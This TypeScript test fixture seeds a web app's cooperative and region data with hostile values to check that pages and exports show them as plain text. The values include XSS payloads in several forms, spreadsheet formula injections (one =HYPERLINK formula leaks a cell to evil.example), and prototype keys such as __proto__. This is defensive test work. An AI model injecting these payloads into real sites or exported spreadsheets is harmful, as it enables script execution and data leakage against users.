/**
 * A server whose data is hostile: region names from a test-only copy of datasets/ (the bundled
 * files stay as they are), and uploads whose source notes, cooperative names and file names are
 * markup, spreadsheet formulas or prototype keys. Pages and exports must show them as text.
 */
import fs from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { upload } from './files';
import {
	ROOT,
	seedDatabase,
	startServer,
	tempDir,
	type RunningServer,
	type SeededDatabase
} from './server';

/** Each sets window.__xss (and opens a dialog) if it ever runs. */
export const XSS = {
	img: '<img src=x onerror="window.__xss=1;alert(1)">',
	svg: '"><svg onload="window.__xss=2;alert(2)">',
	script: '</script><script>window.__xss=3;alert(3)</script>',
	link: 'javascript:window.__xss=4',
	template: '{@html "<b>x</b>"} ${window.__xss=5}',
	iframe: '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>'
} as const;

/** Region code → hostile name (also the short name). 32.16 and 19 are the dashboard's default pair. */
export const HOSTILE_REGIONS: Record<string, string> = {
	'32': `Jawa Barat ${XSS.img}`,
	'32.16': `Kabupaten ${XSS.img} Bekasi`,
	'19': `${XSS.svg} Bangka Belitung`,
	'32.01': `${XSS.script} Bogor`,
	'32.05': `${XSS.template} Garut`,
	'32.06': XSS.link,
	'32.07': `${XSS.iframe} Ciamis`,
	'32.04': '=HYPERLINK("http://evil.example/?"&A1)',
	'32.73': '@SUM(A1) Bandung',
	'32.75': '-2+3 Bekasi',
	'32.74': '+1+1 Cirebon',
	'32.02': '__proto__',
	'32.03': 'constructor'
};

/** Source notes (sumber) of uploaded rows: markup and every formula trigger. */
export const HOSTILE_SOURCES = [
	`Dinas ${XSS.img}`,
	'=HYPERLINK("http://evil.example/?"&A1)',
	'+1+1',
	'-2+3',
	'@SUM(A1)',
	'\t=1+1',
	'\r=1+1'
];

export const HOSTILE_FILE_NAME = `${XSS.svg}.csv`;
export const HOSTILE_NOTE = `Catatan ${XSS.script}`;

/** A copy of datasets/ with the hostile region names, for DATASETS_DIR. */
export function hostileDatasets(dir: string): string {
	fs.mkdirSync(dir, { recursive: true });
	for (const file of fs.readdirSync(path.join(ROOT, 'datasets')))
		if (file.endsWith('.csv'))
			fs.copyFileSync(path.join(ROOT, 'datasets', file), path.join(dir, file));
	const parsed = Papa.parse<Record<string, string>>(
		fs.readFileSync(path.join(dir, 'wilayah.csv'), 'utf8'),
		{ header: true, skipEmptyLines: true }
	);
	for (const row of parsed.data) {
		const name = HOSTILE_REGIONS[row.kode_wilayah!];
		if (name) {
			row.nama_wilayah = name;
			row.nama_pendek = name;
		}
		if (row.kode_provinsi === '32') row.nama_provinsi = HOSTILE_REGIONS['32']!;
	}
	fs.writeFileSync(
		path.join(dir, 'wilayah.csv'),
		Papa.unparse(parsed.data, { newline: '\n' }) + '\n'
	);
	return dir;
}

export interface HostileServer {
	server: RunningServer;
	db: SeededDatabase;
	close(): Promise<void>;
}

/** Uploads for the default pair (32.16, 19), 2024–2025, replacing the bundled rows. */
async function uploadHostileRows(url: string, token: string) {
	const years = [2024, 2025];
	const koperasi = [
		'kode_wilayah,tahun,jenis_koperasi,id_koperasi,nama_koperasi,jumlah_koperasi,koperasi_aktif,koperasi_rat,jumlah_anggota,jumlah_manajer,jumlah_karyawan,status_data,sumber'
	];
	const pembiayaan = [
		'kode_wilayah,tahun,id_koperasi,nama_koperasi,modal_sendiri,modal_luar,aset,volume_usaha,shu,pinjaman_diberikan,kur_realisasi,kur_debitur,status_data,sumber'
	];
	const quote = (text: string) => `"${text.replace(/"/g, '""')}"`;
	for (const region of ['32.16', '19'])
		for (const year of years)
			HOSTILE_SOURCES.forEach((source, j) => {
				const name = quote(j % 2 ? `${XSS.iframe} KSP ${j}` : `__proto__ ${j}`);
				const id = `H-${region}-${j}`;
				koperasi.push(
					`${region},${year},simpan_pinjam,${id},${name},1,1,1,${100 + j},1,${j},resmi,${quote(source)}`
				);
				// A loss year: SHU is negative, and must leave the export as a number.
				pembiayaan.push(
					`${region},${year},${id},${name},${1000 + j},500,2000,3000,${-1500 - j},700,300,${j + 1},resmi,${quote(source)}`
				);
			});
	for (const [kind, lines] of [
		['koperasi', koperasi],
		['pembiayaan', pembiayaan]
	] as const) {
		const response = await upload(
			url,
			token,
			{ csv: lines.join('\n') + '\n', name: HOSTILE_FILE_NAME },
			{ kind, mode: 'replace', source: HOSTILE_NOTE }
		);
		if (response.status !== 201)
			throw new Error(`Hostile ${kind} upload: ${response.status} ${await response.text()}`);
	}
}

export async function startHostileServer(env: Record<string, string> = {}): Promise<HostileServer> {
	const dir = tempDir('hostile');
	const datasetsDir = hostileDatasets(path.join(dir, 'datasets'));
	const db = seedDatabase(path.join(dir, 'data'), { datasetsDir });
	const server = await startServer({
		databasePath: db.databasePath,
		env: { DATASETS_DIR: datasetsDir, ...env }
	});
	try {
		await uploadHostileRows(server.url, db.accounts.analis!.token);
	} catch (error) {
		await server.stop();
		throw error;
	}
	return {
		server,
		db,
		async close() {
			await server.stop();
			fs.rmSync(dir, { recursive: true, force: true });
		}
	};
}
